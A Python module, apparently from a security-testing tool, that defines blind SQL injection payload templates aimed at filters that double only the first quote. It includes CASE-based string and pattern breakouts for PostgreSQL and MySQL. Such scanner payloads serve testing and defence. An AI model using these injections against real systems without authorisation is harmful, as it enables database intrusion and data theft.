"""The payloads of `sqli` for filters that double the first quote alone, as JavaScript's `replace("'", "''")` does.

The first quote is given to the filter and stays in the text, which is another one then: nothing is found or narrowed by
it, so that only whether SQL is taken can tell. Where nothing is doubled the quotes do not close, and nothing happens.

What stands behind `~` cannot go on with `||`, which PostgreSQL takes for an operator of the same rank. A condition goes on there;
joined to a text within brackets it may hold for other rows in MySQL, so it is for those that read.
"""

from gatecrash.core.testing.payloads.sqli import Context

ESCAPED_ONCE = Context(
    "text whose first quote alone is doubled",
    "{value}''||NULLIF(''||'','0')||{word} WHEN {left}={right} THEN '' ELSE '{mark}' END||'",
    "CASE",
    ("CASA", "CSAE", "CAZE", "CASK"),
)
BEHIND_A_PATTERN = Context(
    "pattern whose first quote alone is doubled",
    "{value}'' AND {word} WHEN {left}={right} THEN 1=1 ELSE 1=0 END AND '{mark}'='{mark}",
    ESCAPED_ONCE.operator,
    ESCAPED_ONCE.lookalikes,
)
